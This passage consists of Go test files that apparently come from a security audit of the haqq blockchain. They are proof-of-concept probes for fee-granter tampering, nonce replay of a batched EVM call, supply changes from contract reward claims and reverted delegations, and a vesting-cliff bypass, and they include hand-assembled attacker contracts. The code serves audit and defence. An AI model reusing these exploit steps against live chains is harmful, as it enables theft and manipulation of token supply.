			ChainID:       suite.ctx.ChainID(),
			AccountNumber: acc.GetAccountNumber(),
			Sequence:      acc.GetSequence(),
			PubKey:        env.sPriv.PubKey(),
		}
		sigs, err := b.GetTx().GetSignaturesV2()
		suite.Require().NoError(err)
		sig := sigs[0].Data.(*signing.SingleSignatureData).Signature

		sb0, err := txCfg.SignModeHandler().GetSignBytes(signing.SignMode_SIGN_MODE_DIRECT, signerData, b.GetTx())
		suite.Require().NoError(err)
		b.SetFeeGranter(env.g)
		sb1, err := txCfg.SignModeHandler().GetSignBytes(signing.SignMode_SIGN_MODE_DIRECT, signerData, b.GetTx())
		suite.Require().NoError(err)
		b.SetFeeGranter(nil)
		b.SetFeePayer(env.s)
		sb2, err := txCfg.SignModeHandler().GetSignBytes(signing.SignMode_SIGN_MODE_DIRECT, signerData, b.GetTx())
		suite.Require().NoError(err)

		var d0, d1 txtypes.SignDoc
		suite.Require().NoError(d0.Unmarshal(sb0))
		suite.Require().NoError(d1.Unmarshal(sb1))
		var a0, a1 txtypes.AuthInfo
		suite.Require().NoError(a0.Unmarshal(d0.AuthInfoBytes))
		suite.Require().NoError(a1.Unmarshal(d1.AuthInfoBytes))
		suite.Require().True(bytes.Equal(d0.BodyBytes, d1.BodyBytes))
		suite.Require().Equal(d0.ChainId, d1.ChainId)
		suite.Require().Equal(d0.AccountNumber, d1.AccountNumber)
		suite.Require().Equal("", a0.Fee.Granter)
		suite.Require().Equal(env.g.String(), a1.Fee.Granter)
		a1.Fee.Granter = ""
		suite.Require().Equal(a0.String(), a1.String(), "authinfo differs only in fee.granter")

		pk := env.sPriv.PubKey()
		suite.T().Logf("=== pubkey level | %s", route)
		suite.T().Logf("  signDoc bytes equal (granter \"\" vs G): %v", bytes.Equal(sb0, sb1))
		suite.T().Logf("  PubKey.VerifySignature(signDoc{granter=\"\"}, sig)      = %v", pk.VerifySignature(sb0, sig))
		suite.T().Logf("  PubKey.VerifySignature(signDoc{granter=G}, sig)       = %v", pk.VerifySignature(sb1, sig))
		suite.T().Logf("  PubKey.VerifySignature(signDoc{payer=S,granter=\"\"}, sig) = %v", pk.VerifySignature(sb2, sig))
	}
}
