package ante_test

// Throw-away C03 fix evaluation. Only meaningful WITH fix-prototype.patch applied:
// a wallet that wants to use a fee grant signs EIP-712 typed data whose fee object
// contains "granter": G (i.e. exactly the SDK amino StdFee JSON). The tx must be accepted
// with granter=G (G pays) and must be rejected once the granter is stripped or replaced.
//
// Run:
//   go test ./app/ante/ -run TestAnteTestSuite -testify.m TestZZFixC03 -ginkgo.skip='.*' -count=1 -v

import (
	"fmt"

	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cosmos/cosmos-sdk/client"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	"github.com/cosmos/cosmos-sdk/x/auth/migrations/legacytx"
	authtx "github.com/cosmos/cosmos-sdk/x/auth/tx"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/signer/core/apitypes"

	"github.com/haqq-network/haqq/ethereum/eip712"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
)

// zzBuildWithSignedGranter builds a tx S->R with fee.granter=G where the EIP-712 typed data that S signs
// DOES contain the granter (fee JSON = legacytx.StdFee{Amount, Gas, Granter}).
func (suite *AnteTestSuite) zzBuildWithSignedGranter(env zzEnv, route zzRoute) client.TxBuilder {
	msg := &banktypes.MsgSend{
		FromAddress: env.s.String(),
		ToAddress:   env.r.String(),
		Amount:      sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, zzSendAmt)),
	}
	msgs := []sdk.Msg{msg}
	pc, err := haqqtypes.ParseChainID(suite.ctx.ChainID())
	suite.Require().NoError(err)
	acc := suite.app.AccountKeeper.GetAccount(suite.ctx, env.s)

	fee := legacytx.StdFee{
		Amount:  sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, zzFee)),
		Gas:     zzGas,
		Granter: env.g.String(),
	}
	data := legacytx.StdSignBytes(suite.ctx.ChainID(), acc.GetAccountNumber(), acc.GetSequence(), 0, fee, msgs, "", nil)

	var typedData apitypes.TypedData
	switch route {
	case zzRouteDirectEIP712New:
		typedData, err = eip712.WrapTxToTypedData(pc.Uint64(), data)
	case zzRouteDirectEIP712Legacy, zzRouteLegacyWeb3Extension:
		typedData, err = eip712.LegacyWrapTxToTypedData(suite.app.AppCodec(), pc.Uint64(), msg, data, &eip712.FeeDelegationOptions{FeePayer: env.s})
	default:
		suite.FailNow("unsupported route")
	}
	suite.Require().NoError(err)
	suite.T().Logf("  typed data Fee type: %v ; message.fee: %v", typedData.Types["Fee"], typedData.Message["fee"])

	sigHash, _, err := apitypes.TypedDataAndHash(typedData)
	suite.Require().NoError(err)
	sig, pubKey, err := testutiltx.NewSigner(env.sPriv).SignByAddress(env.s, sigHash)
	suite.Require().NoError(err)
	sig[crypto.RecoveryIDOffset] += 27

	b := suite.clientCtx.TxConfig.NewTxBuilder().(authtx.ExtensionOptionsTxBuilder)
	b.SetFeeAmount(fee.Amount)
	b.SetGasLimit(fee.Gas)
	b.SetFeeGranter(env.g)
	suite.Require().NoError(b.SetMsgs(msgs...))

	sigV2 := signing.SignatureV2{PubKey: pubKey, Sequence: acc.GetSequence()}
	if route == zzRouteLegacyWeb3Extension {
		opt, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionsWeb3Tx{
			FeePayer: env.s.String(), TypedDataChainID: pc.Uint64(), FeePayerSig: sig,
		})
		suite.Require().NoError(err)
		b.SetExtensionOptions(opt)
		sigV2.Data = &signing.SingleSignatureData{SignMode: signing.SignMode_SIGN_MODE_LEGACY_AMINO_JSON}
	} else {
		sigV2.Data = &signing.SingleSignatureData{SignMode: signing.SignMode_SIGN_MODE_DIRECT, Signature: sig}
	}
	suite.Require().NoError(b.SetSignatures(sigV2))
	return b
}

func (suite *AnteTestSuite) TestZZFixC03_SignedGranter() {
	results := []string{}
	for _, route := range []zzRoute{zzRouteDirectEIP712New, zzRouteDirectEIP712Legacy, zzRouteLegacyWeb3Extension} {
		for _, alt := range []struct {
			name string
			post func(env zzEnv, b client.TxBuilder)
		}{
			{"unaltered (granter=G as signed)", nil},
			{"granter stripped after signing", zzStripGranter},
			{"granter replaced by P after signing", func(env zzEnv, b client.TxBuilder) { b.SetFeeGranter(env.p) }},
		} {
			suite.SetupTest()
			env := suite.zzSetup()
			suite.T().Logf("=== FIXEVAL wallet signed granter=G | %s | route: %s", alt.name, route)
			b := suite.zzBuildWithSignedGranter(env, route)
			if alt.post != nil {
				alt.post(env, b)
			}
			bz := suite.zzEncode(b)
			suite.zzDescribe("deliver:", bz)
			var out zzOutcome
			out.before = suite.zzBalances(env)
			res := suite.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
			out.after = suite.zzBalances(env)
			out.code, out.log = res.Code, res.Log
			logStr := res.Log
			if res.Code == 0 {
				logStr = "(ok)"
			}
			line := fmt.Sprintf("%-55s %-38s accepted=%-5v payer=%s log=%s", route, alt.name, res.Code == 0, out.payer(env), logStr)
			suite.T().Log("  " + line)
			results = append(results, line)
		}
	}
	suite.T().Log("SUMMARY fix evaluation (wallet-signed granter):")
	for _, r := range results {
		suite.T().Log("  " + r)
	}
}
