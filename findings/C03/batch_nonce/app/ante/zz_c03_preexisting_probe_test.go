package ante_test

// NOT a seeded change: probe of the UNMODIFIED code.
// A single Cosmos tx that batches [contract creation (nonce n), call (nonce n+1)] from one
// sender leaves the account sequence at n+1 instead of n+2 (ApplyMessageWithConfig resets the
// nonce to msg.Nonce()+1 after a create, overwriting the ante handler's increments), so the
// second message can afterwards be replayed as a stand-alone transaction.

import (
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

func TestC03PreexistingBatchCreateCallReplay(t *testing.T) {
	privCons, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	chainID := utils.MainNetChainID + "-1"
	a, _ := app.Setup(false, feemarkettypes.DefaultGenesisState(), chainID)
	header := testutil.NewHeader(1, time.Now().UTC(), chainID, sdk.ConsAddress(privCons.PubKey().Address()), nil, nil)
	ctx := a.BaseApp.NewContext(false, header)
	valAddr := sdk.ValAddress(privCons.PubKey().Address().Bytes())
	validator, err := stakingtypes.NewValidator(valAddr, privCons.PubKey(), stakingtypes.Description{})
	require.NoError(t, err)
	validator = stakingkeeper.TestingUpdateValidator(a.StakingKeeper.Keeper, ctx, validator, true)
	require.NoError(t, a.StakingKeeper.Hooks().AfterValidatorCreated(ctx, validator.GetOperator()))
	require.NoError(t, a.StakingKeeper.SetValidatorByConsAddr(ctx, validator))
	a.StakingKeeper.SetValidator(ctx, validator)

	addr, priv := testutiltx.NewAccAddressAndKey()
	require.NoError(t, testutil.FundAccount(ctx, a.BankKeeper, addr, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1e18)))))
	ctx, err = testutil.CommitAndCreateNewCtx(ctx, a, 0, nil)
	require.NoError(t, err)

	from := common.BytesToAddress(addr)
	toAcc, _ := testutiltx.NewAccAddressAndKey()
	to := common.BytesToAddress(toAcc)
	feeCap := new(big.Int).Mul(a.FeeMarketKeeper.GetBaseFee(ctx), big.NewInt(100))
	n := a.EvmKeeper.GetNonce(ctx, from)
	create := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID: a.EvmKeeper.ChainID(), Nonce: n, GasLimit: 100000,
		GasFeeCap: feeCap, GasTipCap: big.NewInt(1), Amount: big.NewInt(0), Accesses: &ethtypes.AccessList{},
	})
	call := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID: a.EvmKeeper.ChainID(), Nonce: n + 1, GasLimit: 21000, To: &to,
		GasFeeCap: feeCap, GasTipCap: big.NewInt(1), Amount: big.NewInt(1e15), Accesses: &ethtypes.AccessList{},
	})
	create.From, call.From = from.Hex(), from.Hex()
	_, err = testutil.DeliverEthTx(a, priv, create, call)
	require.NoError(t, err)
	ctx, err = testutil.CommitAndCreateNewCtx(ctx, a, 0, nil)
	require.NoError(t, err)
	seq := a.EvmKeeper.GetNonce(ctx, from)
	t.Logf("sequence after batch [create n=%d, call n=%d]: %d (expected %d); recipient balance %s",
		n, n+1, seq, n+2, a.BankKeeper.GetBalance(ctx, toAcc, utils.BaseDenom))

	// replay the already executed, already signed `call` message on its own (nil key: do not re-sign)
	_, err = testutil.DeliverEthTx(a, nil, call)
	ctx, err2 := testutil.CommitAndCreateNewCtx(ctx, a, 0, nil)
	require.NoError(t, err2)
	t.Logf("replay of the call: err=%v ; recipient balance now %s ; sequence now %d",
		err, a.BankKeeper.GetBalance(ctx, toAcc, utils.BaseDenom), a.EvmKeeper.GetNonce(ctx, from))

	require.Equal(t, n+2, seq, "batched create+call left the sequence behind")
	require.Error(t, err, "already executed message was accepted a second time")
}
