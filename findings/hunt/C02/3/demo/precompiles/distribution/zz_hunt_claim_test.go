package distribution_test

import (
	"math/big"

	"cosmossdk.io/math"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/distribution"
	stakingprecompile "github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzForwarderRuntime is the runtime code of a minimal payable forwarder (hand assembled, no compiler needed):
//
//	calldata empty : STOP (plain receive of funds)
//	otherwise      : calldata = target(32) | payload ; ok := CALL(target, value 0, payload) ; if !ok REVERT ; STOP
//
// i.e. the Solidity `function run(address t, bytes calldata p) external payable { (bool ok,) = t.call(p); require(ok); }`.
var zzForwarderRuntime = []byte{
	0x36, 0x60, 0x05, 0x57, 0x00, // 00: CALLDATASIZE PUSH1 05 JUMPI STOP
	0x5b,                               // 05: JUMPDEST
	0x36, 0x60, 0x00, 0x60, 0x00, 0x37, // 06: CALLDATACOPY(0, 0, CALLDATASIZE)
	0x60, 0x00, 0x60, 0x00, 0x60, 0x20, 0x36, 0x03, 0x60, 0x20, 0x60, 0x00, 0x60, 0x00, 0x51, 0x5a, 0xf1, // 0c: CALL(gas, mem[0], 0, 0x20, cds-0x20, 0, 0)
	0x60, 0x24, 0x57, // 1d: PUSH1 <ok> JUMPI
	0x60, 0x00, 0x80, 0xfd, // 20: PUSH1 0 DUP1 REVERT
	0x5b, 0x00, // 24: JUMPDEST STOP
}

func (s *PrecompileTestSuite) zzSendEthTx(to *common.Address, value *big.Int, input []byte) {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       to,
		Amount:   value,
		GasLimit: 3_000_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    input,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the top level call must succeed")
}

// zzDeployForwarder deploys the forwarder (PUSH1 len DUP1 PUSH1 0x0b PUSH1 0 CODECOPY PUSH1 0 RETURN ++ runtime).
func (s *PrecompileTestSuite) zzDeployForwarder() common.Address {
	initCode := append([]byte{0x60, byte(len(zzForwarderRuntime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, zzForwarderRuntime...)
	nonce := s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	s.zzSendEthTx(nil, nil, initCode)
	forwarder := crypto.CreateAddress(s.address, nonce)
	s.Require().Equal(zzForwarderRuntime, s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountOrEmpty(s.ctx, forwarder).CodeHash)))
	return forwarder
}

// A contract that is itself a delegator claims its own staking rewards with claimRewards in a transaction in which
// it also receives 1 wei from the signer. The rewards are paid (by the distribution module, in the bank) to the
// contract: afterwards the contract must own its previous balance + 1 wei + the rewards, and the supply must not move.
func (s *PrecompileTestSuite) TestZZHuntClaimRewardsByDirtyContractBurns() {
	s.NextBlock() // the context created by SetupTest predates the first Commit

	bal := func(a common.Address) math.Int {
		return s.app.BankKeeper.GetBalance(s.ctx, a.Bytes(), utils.BaseDenom).Amount
	}
	supply := func() math.Int { return s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom).Amount }

	forwarder := s.zzDeployForwarder()

	// the contract delegates 1 ISLM to validator 0 and 1 ISLM of rewards accrue for it
	s.prepareStakingRewards(stakingRewards{Delegator: forwarder.Bytes(), Validator: s.validators[0], RewardAmt: math.NewInt(1e18)})
	rewards, err := haqqtestutil.GetTotalDelegationRewards(s.ctx, s.app.DistrKeeper, forwarder.Bytes())
	s.Require().NoError(err)
	expRewards := rewards.AmountOf(utils.BaseDenom).TruncateInt()
	s.Require().True(expRewards.IsPositive(), "rewards must be pending")

	payload, err := s.precompile.ABI.Pack(distribution.ClaimRewardsMethod, forwarder, uint32(10))
	s.Require().NoError(err)
	input := append(common.LeftPadBytes(s.precompile.Address().Bytes(), 32), payload...)

	supplyBefore, contractBefore := supply(), bal(forwarder)
	distrBefore := s.app.BankKeeper.GetBalance(s.ctx, s.app.DistrKeeper.GetDistributionAccount(s.ctx).GetAddress(), utils.BaseDenom).Amount

	s.zzSendEthTx(&forwarder, big.NewInt(1), input) // 1 wei attached: the contract's balance is touched by the EVM

	supplyAfter, contractAfter := supply(), bal(forwarder)
	distrAfter := s.app.BankKeeper.GetBalance(s.ctx, s.app.DistrKeeper.GetDistributionAccount(s.ctx).GetAddress(), utils.BaseDenom).Amount
	left, err := haqqtestutil.GetTotalDelegationRewards(s.ctx, s.app.DistrKeeper, forwarder.Bytes())
	s.Require().NoError(err)

	s.T().Logf("pending rewards before %s, after %s", expRewards, left.AmountOf(utils.BaseDenom))
	s.T().Logf("distribution module paid out %s", distrBefore.Sub(distrAfter))
	s.T().Logf("contract before %s after %s", contractBefore, contractAfter)
	s.T().Logf("supply   before %s after %s (diff %s)", supplyBefore, supplyAfter, supplyAfter.Sub(supplyBefore))

	s.Require().Equal(expRewards.String(), distrBefore.Sub(distrAfter).String(), "the rewards were claimed (paid out by the distribution module)")
	s.Assert().Equal(contractBefore.AddRaw(1).Add(expRewards).String(), contractAfter.String(), "contract balance = before + 1 wei received + rewards received")
	s.Assert().Equal(supplyBefore.String(), supplyAfter.String(), "an Ethereum transaction must not change the total supply")
}

// Same contract, same kind of transaction, but the contract calls staking.undelegate for 1 aISLM of its own delegation:
// the staking hooks pay the pending rewards of that delegation to the contract, as for any Cosmos undelegation.
func (s *PrecompileTestSuite) TestZZHuntUndelegateByDirtyContractBurnsAutoWithdrawnRewards() {
	s.NextBlock() // the context created by SetupTest predates the first Commit

	bal := func(a common.Address) math.Int {
		return s.app.BankKeeper.GetBalance(s.ctx, a.Bytes(), utils.BaseDenom).Amount
	}
	supply := func() math.Int { return s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom).Amount }

	forwarder := s.zzDeployForwarder()
	s.prepareStakingRewards(stakingRewards{Delegator: forwarder.Bytes(), Validator: s.validators[0], RewardAmt: math.NewInt(1e18)})
	rewards, err := haqqtestutil.GetTotalDelegationRewards(s.ctx, s.app.DistrKeeper, forwarder.Bytes())
	s.Require().NoError(err)
	expRewards := rewards.AmountOf(utils.BaseDenom).TruncateInt()
	s.Require().True(expRewards.IsPositive(), "rewards must be pending")

	// the signer lets the contract call undelegate (required by the precompile whenever the caller is not the origin)
	stakingABI, err := stakingprecompile.LoadABI()
	s.Require().NoError(err)
	stakingAddr := common.HexToAddress(stakingprecompile.PrecompileAddress)
	approve, err := stakingABI.Pack("approve", forwarder, big.NewInt(1), []string{stakingprecompile.UndelegateMsg})
	s.Require().NoError(err)
	s.zzSendEthTx(&stakingAddr, nil, approve)

	payload, err := stakingABI.Pack(stakingprecompile.UndelegateMethod, forwarder, s.validators[0].OperatorAddress, big.NewInt(1))
	s.Require().NoError(err)
	input := append(common.LeftPadBytes(stakingAddr.Bytes(), 32), payload...)

	supplyBefore, contractBefore := supply(), bal(forwarder)
	distrBefore := s.app.BankKeeper.GetBalance(s.ctx, s.app.DistrKeeper.GetDistributionAccount(s.ctx).GetAddress(), utils.BaseDenom).Amount

	s.zzSendEthTx(&forwarder, big.NewInt(1), input) // 1 wei attached: the contract's balance is touched by the EVM

	supplyAfter, contractAfter := supply(), bal(forwarder)
	distrAfter := s.app.BankKeeper.GetBalance(s.ctx, s.app.DistrKeeper.GetDistributionAccount(s.ctx).GetAddress(), utils.BaseDenom).Amount

	s.T().Logf("distribution module paid out %s (pending rewards were %s)", distrBefore.Sub(distrAfter), expRewards)
	s.T().Logf("contract before %s after %s", contractBefore, contractAfter)
	s.T().Logf("supply   before %s after %s (diff %s)", supplyBefore, supplyAfter, supplyAfter.Sub(supplyBefore))

	s.Require().Equal(expRewards.String(), distrBefore.Sub(distrAfter).String(), "the pending rewards were paid out by the distribution module")
	s.Assert().Equal(contractBefore.AddRaw(1).Add(expRewards).String(), contractAfter.String(), "contract balance = before + 1 wei received + rewards received")
	s.Assert().Equal(supplyBefore.String(), supplyAfter.String(), "an Ethereum transaction must not change the total supply")
}
