package staking_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzCatcherRuntime is the runtime code of a minimal "try/catch" contract (hand assembled, no compiler needed).
//
//	calldata empty                     : STOP (plain receive of funds)
//	CALLER != ADDRESS  ("outer" frame) : ok := CALL(self, calldata)            // the "try"
//	                                     SSTORE(0, RETURNDATASIZE)             // 1 <=> the precompile call inside the try succeeded
//	                                     CALL(ORIGIN, value = 1 wei)           // an ordinary value transfer after the "catch"
//	                                     STOP
//	CALLER == ADDRESS  ("inner" frame) : calldata = target(32) | payee(32) | amount(32) | payload
//	                                     CALL(payee, value = amount)           // ordinary value transfer
//	                                     ok := CALL(target, payload)           // the precompile call
//	                                     REVERT(0, ok)                         // ALWAYS revert the frame
var zzCatcherRuntime = []byte{
	0x36, 0x60, 0x05, 0x57, 0x00, // 00: CALLDATASIZE PUSH1 05 JUMPI STOP
	0x5b,                               // 05: JUMPDEST
	0x36, 0x60, 0x00, 0x60, 0x00, 0x37, // 06: CALLDATACOPY(0, 0, CALLDATASIZE)
	0x33, 0x30, 0x14, 0x60, 0x33, 0x57, // 0c: CALLER ADDRESS EQ PUSH1 <inner> JUMPI
	// outer (0x12)
	0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x30, 0x5a, 0xf1, // 12: CALL(gas, self, 0, 0, cds, 0, 0)
	0x50,                   // 1e: POP
	0x3d, 0x60, 0x00, 0x55, // 1f: SSTORE(0, RETURNDATASIZE)
	0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x01, 0x32, 0x5a, 0xf1, // 23: CALL(gas, origin, 1, 0,0,0,0)
	0x50, // 30: POP
	0x00, // 31: STOP
	0x00, // 32: (padding)
	// inner (0x33)
	0x5b,                                                                                           // 33: JUMPDEST
	0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x40, 0x51, 0x60, 0x20, 0x51, 0x5a, 0xf1, // 34: CALL(gas, mem[0x20], mem[0x40], 0,0,0,0)
	0x50,                                                                                                 // 44: POP
	0x60, 0x00, 0x60, 0x00, 0x60, 0x60, 0x36, 0x03, 0x60, 0x60, 0x60, 0x00, 0x60, 0x00, 0x51, 0x5a, 0xf1, // 45: CALL(gas, mem[0], 0, 0x60, cds-0x60, 0, 0)
	0x60, 0x00, 0xfd, // 56: REVERT(0, ok)
}

func zzInitCode(runtime []byte) []byte {
	// PUSH1 len DUP1 PUSH1 0x0b PUSH1 0 CODECOPY PUSH1 0 RETURN
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

func zzWord(b []byte) []byte { return common.LeftPadBytes(b, 32) }

// zzSendEthTx delivers one Ethereum transaction signed by the suite key.
func (s *PrecompileTestSuite) zzSendEthTx(to *common.Address, value *big.Int, input []byte) *evmtypes.MsgEthereumTxResponse {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       to,
		Amount:   value,
		GasLimit: 3_000_000,
		GasPrice: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		Input:    input,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the top level call must succeed")
	return ethRes
}

func (s *PrecompileTestSuite) zzSupply() math.Int {
	return s.app.BankKeeper.GetSupply(s.ctx, utils.BaseDenom).Amount
}

func (s *PrecompileTestSuite) zzBal(a common.Address) math.Int {
	return s.app.BankKeeper.GetBalance(s.ctx, a.Bytes(), utils.BaseDenom).Amount
}

// A contract that is its own delegator calls staking.delegate inside a call frame that then REVERTs
// (Solidity: `try this.inner() {} catch {}`), and afterwards does an ordinary 1 wei transfer.
// EVM semantics: everything done inside the reverted frame is undone, so the contract must end up either with
// the delegation and WITHOUT the coins, or with the coins and WITHOUT the delegation. Total supply must not move.
func (s *PrecompileTestSuite) TestZZHuntRevertedDelegateMints() {
	// the suite context created by SetupTest predates the first Commit: move to a fresh block first
	// (this is what s.NextBlock() does in the integration tests)
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)

	// 1. deploy the try/catch contract and give it 1 ISLM of its own
	nonce := s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	s.zzSendEthTx(nil, nil, zzInitCode(zzCatcherRuntime))
	catcher := crypto.CreateAddress(s.address, nonce)
	s.Require().Equal(zzCatcherRuntime, s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountOrEmpty(s.ctx, catcher).CodeHash)))

	funds := math.NewInt(1e18)
	s.zzSendEthTx(&catcher, funds.BigInt(), nil)
	s.Require().Equal(funds.String(), s.zzBal(catcher).String())

	// 2. the tx signer allows the contract to call delegate (the precompile asks for this grant whenever
	//    the caller is not the tx origin, even when the contract delegates its own coins)
	amt := math.NewInt(4e17)
	_, _, err = contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   authorization.ApproveMethod,
		Args:         []interface{}{catcher, amt.BigInt(), []string{staking.DelegateMsg}},
	})
	s.Require().NoError(err)

	valAddr := s.validators[0].GetOperator()
	_, found := s.app.StakingKeeper.GetDelegation(s.ctx, catcher.Bytes(), valAddr)
	s.Require().False(found)

	// 3. the transaction under test
	payload, err := s.precompile.ABI.Pack(staking.DelegateMethod, catcher, valAddr.String(), amt.BigInt())
	s.Require().NoError(err)
	input := append(zzWord(s.precompile.Address().Bytes()), zzWord(nil)...) // target | payee = 0
	input = append(input, zzWord(nil)...)                                   // amount = 0
	input = append(input, payload...)

	supplyBefore := s.zzSupply()
	catcherBefore := s.zzBal(catcher)

	s.zzSendEthTx(&catcher, nil, input)

	supplyAfter := s.zzSupply()
	catcherAfter := s.zzBal(catcher)
	flag := s.app.EvmKeeper.GetState(s.ctx, catcher, common.Hash{})
	s.Require().Equal(uint64(1), flag.Big().Uint64(), "inner frame: delegate succeeded and the frame then reverted")

	bonded := math.ZeroInt()
	if del, found := s.app.StakingKeeper.GetDelegation(s.ctx, catcher.Bytes(), valAddr); found {
		val, _ := s.app.StakingKeeper.GetValidator(s.ctx, valAddr)
		bonded = val.TokensFromShares(del.Shares).TruncateInt()
	}
	s.T().Logf("supply before %s after %s (diff %s)", supplyBefore, supplyAfter, supplyAfter.Sub(supplyBefore))
	s.T().Logf("contract balance before %s after %s, bonded by the contract after the tx %s", catcherBefore, catcherAfter, bonded)

	// the contract paid 1 wei (to the origin) and whatever is really bonded in its name, nothing else
	s.Assert().Equal(catcherBefore.SubRaw(1).String(), catcherAfter.Add(bonded).String(),
		"contract balance + coins bonded by the contract must equal its balance before minus the 1 wei it sent")
	s.Assert().Equal(supplyBefore.String(), supplyAfter.String(), "an Ethereum transaction must not change the total supply")
}

var (
	_ = authorization.ApproveMethod
	_ = staking.DelegateMsg
	_ = contracts.CallArgs{}
	_ = sdk.Coin{}
)
