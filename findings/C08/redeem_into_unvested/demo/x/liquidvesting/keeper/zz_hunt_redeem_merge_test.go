package keeper_test

import (
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/haqq-network/haqq/tests"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
)

// TestZZHuntRedeemIntoUnvestedAccount
//
// Two restrictions, each of which forbids every spend until month 12:
//
//   - "employee" holds a grant of 1e9 aISLM that is not locked up but vests only at a
//     12-month cliff (unvested, the funder can still claw it back);
//   - "investor" holds 1e9 aISLM that are vested but locked up for 12 months.
//
// One month in, nobody may move a single one of these 2e9 aISLM. The investor liquidates his
// locked coins (allowed: the liquid token carries the 12-month lock-up) and the employee redeems
// the liquid token into his own vesting account (no funder signature needed). The redeemed coins
// are re-locked on paper until month 12 - and yet the employee can now transfer 1e9 aISLM out.
func (suite *KeeperTestSuite) TestZZHuntRedeemIntoUnvestedAccount() {
	suite.SetupTest()

	const month = int64(30 * 24 * 60 * 60)
	grant := sdkmath.NewInt(1_000_000_000)
	grantCoins := sdk.NewCoins(sdk.NewCoin("aISLM", grant))

	funder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	employee := sdk.AccAddress(tests.GenerateAddress().Bytes())
	investor := sdk.AccAddress(tests.GenerateAddress().Bytes())
